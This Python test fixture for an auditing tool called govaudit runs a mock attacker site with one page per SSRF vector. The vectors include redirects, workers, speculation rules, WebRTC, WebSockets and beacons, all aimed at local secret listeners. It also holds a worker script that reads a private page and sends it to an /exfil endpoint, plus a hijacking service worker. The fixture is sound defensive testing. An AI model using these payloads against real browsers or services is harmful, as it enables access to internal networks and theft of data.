"""An attacker's site on 127.0.0.1 and the private services it tries to reach through govaudit's browser.

`SecretListeners` are what must never be reached: TCP on 127.0.0.2 and [::1] (every accepted connection
counted, with the first bytes if any: a preconnect sends none) and UDP on the same addresses (every
datagram counted: STUN). They answer with a token that must never appear in a report or the database.

`AttackerSite` serves one page per vector under /v/…, all linked from the home page.
"""

from __future__ import annotations

import contextlib
import http.server
import json
import secrets
import socket
import socketserver
import threading
from dataclasses import dataclass, field
from urllib.parse import parse_qs, quote, urlsplit

# Names the test resolver (tests/hostile/resolve_run.py) maps to 127.0.0.2.
PRIVATE_NAME = "intranet.ssrf.test"


@dataclass
class SecretListeners:
    token: str = field(default_factory=lambda: "SECRET-" + secrets.token_hex(8))
    tcp: list[tuple[str, bytes]] = field(default_factory=list)  # (address, first bytes)
    udp: list[str] = field(default_factory=list)
    port4: int = 0
    port6: int = 0
    udp4: int = 0
    udp6: int = 0
    _sockets: list[socket.socket] = field(default_factory=list)
    _lock: threading.Lock = field(default_factory=threading.Lock)

    def start(self) -> SecretListeners:
        self.port4 = self._tcp("127.0.0.2", socket.AF_INET)
        self.port6 = self._tcp("::1", socket.AF_INET6)
        self.udp4 = self._udp("127.0.0.2", socket.AF_INET)
        self.udp6 = self._udp("::1", socket.AF_INET6)
        return self

    def stop(self) -> None:
        for s in self._sockets:
            with contextlib.suppress(OSError):
                s.close()

    def reset(self) -> None:
        with self._lock:
            self.tcp.clear()
            self.udp.clear()

    def summary(self) -> str:
        with self._lock:
            return f"TCP {[(a, b[:80]) for a, b in self.tcp]}, UDP {self.udp}"

    def _tcp(self, host: str, family: socket.AddressFamily) -> int:
        server = socket.socket(family, socket.SOCK_STREAM)
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.bind((host, 0))
        server.listen(64)
        self._sockets.append(server)
        body = f"<html><title>{self.token}</title><p>{self.token} internal admin</p></html>".encode()
        answer = (
            b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nAccess-Control-Allow-Origin: *\r\n"
            + f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode()
            + body
        )

        def accept() -> None:
            while True:
                try:
                    conn, _ = server.accept()
                except OSError:
                    return
                threading.Thread(target=self._answer, args=(conn, host, answer), daemon=True).start()

        threading.Thread(target=accept, daemon=True).start()
        return int(server.getsockname()[1])

    def _answer(self, conn: socket.socket, host: str, answer: bytes) -> None:
        with conn:
            conn.settimeout(2)
            first = b""
            with contextlib.suppress(OSError):
                first = conn.recv(2048)
            with self._lock:
                self.tcp.append((host, first))
            with contextlib.suppress(OSError):
                conn.sendall(answer)

    def _udp(self, host: str, family: socket.AddressFamily) -> int:
        server = socket.socket(family, socket.SOCK_DGRAM)
        server.bind((host, 0))
        self._sockets.append(server)

        def receive() -> None:
            while True:
                try:
                    server.recvfrom(4096)
                except OSError:
                    return
                with self._lock:
                    self.udp.append(host)

        threading.Thread(target=receive, daemon=True).start()
        return int(server.getsockname()[1])


def _page(title: str, body: str, head: str = "") -> str:
    head = f'<!doctype html><html lang="en"><head><title>{title}</title>{head}</head>'
    return f"{head}<body><main>{body}</main></body></html>"


class AttackerSite:
    """The attacker's portal on 127.0.0.1: one page per SSRF vector, each aiming at the secret listeners."""

    def __init__(self, secret: SecretListeners) -> None:
        self.secret = secret
        self.exfiltrated: list[str] = []  # what reached /exfil (data a worker read and sent back)
        self._server: socketserver.ThreadingTCPServer | None = None
        self.port = 0

    # --- where the vectors point ------------------------------------------------------------------

    def private(self, path: str) -> str:
        return f"http://127.0.0.2:{self.secret.port4}{path}"

    def private6(self, path: str) -> str:
        return f"http://[::1]:{self.secret.port6}{path}"

    def via(self, target: str, status: int = 302) -> str:
        """A same-site URL that redirects to `target`: request interception never sees the second hop."""
        return f"/r?status={status}&to={quote(target, safe='')}"

    def vectors(self) -> dict[str, str]:
        """Path → page. Every page aims at the secret listeners in its own way."""
        p, p6, via = self.private, self.private6, self.via
        named = f"http://{PRIVATE_NAME}:{self.secret.port4}"
        localhost6 = f"http://localhost:{self.secret.port6}"
        stun4, stun6 = f"127.0.0.2:{self.secret.udp4}", f"[::1]:{self.secret.udp6}"
        turn4 = f"127.0.0.2:{self.secret.port4}"
        return {
            "/v/location": _page(
                "location", "", f"<script>location.href = {json.dumps(via(p('/location')))};</script>"
            ),
            "/v/meta-refresh": _page(
                "meta refresh", "", f'<meta http-equiv="refresh" content="0;url={via(p("/meta-refresh"))}">'
            ),
            # The Refresh header is sent by `refresh_header` below (not in the markup).
            "/v/refresh-header": _page("refresh header", "<p>refresh header</p>"),
            "/v/form-307": _page(
                "form 307",
                f'<form method="post" action="{via(p("/form"), 307)}"><input name="q" value="body"></form>'
                "<script>document.forms[0].submit();</script>",
            ),
            "/v/worker": _page(
                "worker",
                "<script>new Worker('/js/worker.js');</script>",
            ),
            "/v/import-scripts": _page("importScripts", "<script>new Worker('/js/import.js');</script>"),
            "/v/shared-worker": _page("shared worker", "<script>new SharedWorker('/js/shared.js');</script>"),
            "/v/service-worker": _page(
                "service worker",
                "<p>registers a worker</p><script>navigator.serviceWorker && "
                "navigator.serviceWorker.register('/sw.js').catch(() => 0);</script>",
            ),
            "/v/speculation": _page(
                "speculation rules",
                '<p>speculation</p><script type="speculationrules">'
                + json.dumps(
                    {
                        "prefetch": [{"source": "list", "urls": [p("/prefetch"), via(p("/prefetch-via"))]}],
                        "prerender": [{"source": "list", "urls": [via(p("/prerender")), p6("/prerender6")]}],
                    }
                )
                + "</script>"
                f'<link rel="prefetch" href="{p("/link-prefetch")}">'
                f'<link rel="prerender" href="{p6("/link-prerender")}">',
            ),
            "/v/webrtc": _page(
                "webrtc",
                "<script>try { const pc = new RTCPeerConnection({iceServers: ["
                f"{{urls: ['stun:{stun4}', 'stun:{stun6}']}},"
                f"{{urls: ['turn:{turn4}?transport=tcp', 'turn:{stun4}?transport=udp'],"
                " username: 'u', credential: 'p'}"
                "]}); pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o));"
                "} catch (e) {}</script>",
            ),
            "/v/preconnect": _page(
                "preconnect hints",
                f'<iframe src="{p("/iframe")}"></iframe><iframe src="{via(p6("/iframe-via"))}"></iframe>'
                f'<script src="{p6("/script.js")}"></script>'
                f'<img src="{via(p("/img"))}" srcset="{p6("/srcset.png")} 2x" alt="">'
                f'<svg><image href="{p("/svg.png")}"></image></svg>'
                f'<div style="background: url({p6("/bg.png")})">css</div>'
                f'<link rel="preconnect" href="{p("/")}"><link rel="dns-prefetch" href="{p6("/")}">'
                f"<script>const x = new XMLHttpRequest(); x.open('GET', {json.dumps(via(p('/xhr')))}); x.send();"
                f"try {{ new WebSocket('ws://127.0.0.2:{self.secret.port4}/hint'); }} catch (e) {{}}</script>",
            ),
            "/v/websocket": _page(
                "websocket",
                f"<script>for (const u of ['ws://[::1]:{self.secret.port6}/ws', "
                f"'ws://127.0.0.2:{self.secret.port4}/ws']) {{ try {{ new WebSocket(u); }} catch (e) {{}} }}</script>",
            ),
            "/v/window-open": _page(
                "window.open",
                f"<script>window.open({json.dumps(p('/open'))});"
                f" window.open({json.dumps(via(p6('/open-via')))});</script>"
                f'<a href="{p("/target")}" target="_blank" id="t">t</a>'
                '<script>document.getElementById("t").click();</script>',
            ),
            "/v/download": _page(
                "download",
                f'<a id="d" href="{via(p("/download.bin"))}" download>file</a>'
                "<script>document.getElementById('d').click();</script>",
            ),
            "/v/ping": _page(
                "ping",
                f'<a id="a" href="#here" ping="{via(p("/ping"), 307)} {p6("/ping6")}">x</a>'
                "<script>document.getElementById('a').click();</script>",
            ),
            "/v/beacon": _page(
                "beacon",
                f"<script>navigator.sendBeacon({json.dumps(via(p('/beacon'), 307))}, 'data');"
                f"navigator.sendBeacon({json.dumps(p6('/beacon6'))}, 'data');</script>",
            ),
            "/v/image-set": _page(
                "image-set",
                f'<div style="background-image: image-set(url({via(p("/image-set"))}) 1x, url({p6("/image-set2")}) 2x);'
                'width: 10px; height: 10px">x</div>',
            ),
            "/v/portal": _page("portal", f'<portal src="{via(p("/portal"))}"></portal>'),
            "/v/private-name": _page(
                "private name",
                f'<img src="{named}/named.png" alt=""><iframe src="{localhost6}/localhost"></iframe>'
                f"<script>fetch({json.dumps(via(named + '/named-via'))}).catch(() => 0);"
                f"setTimeout(() => {{ location.href = {json.dumps(via(named + '/named-nav'))}; }}, 50);</script>",
            ),
        }

    def scripts(self) -> dict[str, str]:
        p, p6, via = self.private, self.private6, self.via
        # A worker that reads the private page and sends what it read back out (a full-read SSRF).
        read_and_send = (
            "fetch({url}).then(r => r.text()).then(t => fetch('/exfil?d=' + encodeURIComponent(t))).catch(() => 0);"
        )
        return {
            "/js/worker.js": read_and_send.format(url=json.dumps(via(p("/worker"))))
            + read_and_send.format(url=json.dumps(p6("/worker6"))),
            "/js/import.js": f"try {{ importScripts({json.dumps(via(p('/import.js')))}); }} catch (e) {{}}",
            "/js/shared.js": "onconnect = () => 0;" + read_and_send.format(url=json.dumps(via(p("/shared")))),
            # A service worker that would answer every later page of the browser context itself.
            "/sw.js": "self.addEventListener('install', e => self.skipWaiting());"
            "self.addEventListener('activate', e => e.waitUntil(clients.claim()));"
            + read_and_send.format(url=json.dumps(via(p("/sw"))))
            + "self.addEventListener('fetch', e => e.respondWith(new Response("
            "'<html><title>HIJACKED BY SW</title><body>HIJACKED BY SW</body></html>', "
            "{headers: {'content-type': 'text/html'}})));",
        }

    def home(self) -> str:
        links = "".join(f'<li><a href="{path}">{path}</a></li>' for path in [*self.vectors(), *AFTER_SW])
        return _page("Attacker portal", f"<h1>Ministry</h1><ul>{links}</ul>")

    # --- serving ----------------------------------------------------------------------------------

    def start(self) -> AttackerSite:
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args: object) -> None:
                pass

            def do_GET(self) -> None:
                site._handle(self)

            def do_POST(self) -> None:
                length = int(self.headers.get("content-length") or 0)
                self.rfile.read(length)
                site._handle(self)

        self._server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self.port = int(self._server.server_address[1])
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        return self

    def stop(self) -> None:
        if self._server is not None:
            self._server.shutdown()
            self._server.server_close()

    def url(self, path: str = "/") -> str:
        return f"http://127.0.0.1:{self.port}{path}"

    def _handle(self, h: http.server.BaseHTTPRequestHandler) -> None:
        parts = urlsplit(h.path)
        query = parse_qs(parts.query)
        extra: dict[str, str] = {}
        if parts.path == "/r":
            status = int(query.get("status", ["302"])[0])
            _send(h, status, "", "text/plain", {"Location": query.get("to", ["/"])[0]})
            return
        if parts.path == "/exfil":
            self.exfiltrated.append(query.get("d", [""])[0])
            _send(h, 204, "", "text/plain")
            return
        pages: dict[str, str] = {"/": self.home(), **self.vectors(), **{p: _after_sw(p) for p in AFTER_SW}}
        scripts = self.scripts()
        if parts.path == "/v/refresh-header":
            extra["Refresh"] = f"0;url={self.via(self.private('/refresh-header'))}"
        if parts.path in pages:
            _send(h, 200, pages[parts.path], "text/html; charset=utf-8", extra)
        elif parts.path in scripts:
            _send(h, 200, scripts[parts.path], "text/javascript", {"Service-Worker-Allowed": "/"})
        elif parts.path == "/robots.txt":
            _send(h, 200, "User-agent: *\nAllow: /\n", "text/plain")
        else:
            _send(h, 404, "not here", "text/plain")


# Pages a service worker registered earlier would answer in its place ("HIJACKED BY SW").
AFTER_SW = ("/after-sw/a", "/after-sw/b", "/after-sw/c")


def _after_sw(path: str) -> str:
    return _page(f"Served {path}", f"<p>the real content of {path}</p>")


def _send(
    h: http.server.BaseHTTPRequestHandler,
    status: int,
    body: str,
    content_type: str,
    headers: dict[str, str] | None = None,
) -> None:
    data = body.encode()
    h.send_response(status)
    h.send_header("Content-Type", content_type)
    h.send_header("Content-Length", str(len(data)))
    for name, value in (headers or {}).items():
        h.send_header(name, value)
    h.end_headers()
    if h.command != "HEAD":
        h.wfile.write(data)
